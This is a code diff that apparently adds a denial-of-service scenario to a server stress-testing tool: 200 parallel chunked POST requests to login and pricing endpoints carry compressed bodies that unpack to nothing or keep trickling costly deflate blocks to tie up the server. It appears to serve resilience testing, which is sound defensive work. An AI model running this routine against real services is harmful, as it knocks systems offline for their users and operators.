@@ -1,5 +1,7 @@
+import { once } from 'node:events';
 import type { Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
+import { costlyBlocks, emptyBlocks as emptyStreams, emptyBody } from '#testkit/bodies/empty-blocks.ts';
 import type { Attack, Field } from '../attack.ts';
 import { each } from '../each.ts';
 import { payloads } from '../payloads.ts';
@@ -122,6 +124,42 @@ export const heldBodies: Attack = {
       // After a refusal the next body is smaller.
       sizes.set(address, outcome === 'held' ? 0 : (size + 1) % bodies.length);
       return outcome;
+    });
+  },
+};
+
+/**
+ * Half of them unpack to nothing. The others have blocks with tables and little content, and go on with 2 Mbit/s each for as long as
+ * they can.
+ */
+export const emptyBodies: Attack = {
+  name: 'compressed bodies that unpack to nothing',
+  orKinds: ['body_backlog'],
+  run: (field) => {
+    const short = (['deflate', 'gzip', 'br', 'zstd'] as const).map(
+      (encoding) => [encoding, chunkOf(emptyBody(encoding, 65_536))] as const,
+    );
+    const start = chunkOf(emptyStreams.deflate.head);
+    const more = chunkOf(Buffer.alloc(costlyBlocks.length * 600, costlyBlocks));
+    const goOn = async (socket: Socket, ended: AbortSignal): Promise<void> => {
+      while (!ended.aborted && socket.writable) {
+        if (!socket.write(more)) await once(socket, 'drain', { signal: ended }).catch(() => {});
+        await sleep(250, undefined, { signal: ended }).catch(() => {});
+      }
+    };
+    const paths = ['/api/v1/pricing/price', '/api/v1/auth/login', batch];
+    return each(field, { parallel: 200 }, (number, address) => {
+      const isShort = number % 2 === 0;
+      const [encoding, body] = isShort ? short[(number / 2) % short.length]! : (['deflate', start] as const);
+      return rawRequest({
+        ...field,
+        address,
+        method: 'POST',
+        path: isShort ? paths[number % paths.length]! : batch,
+        headers: { ...encoded(encoding), 'Transfer-Encoding': 'chunked' },
+        body,
+        ...(!isShort && { afterwards: goOn, timeoutMs: 27_500 }),
+      });
     });
   },
 };
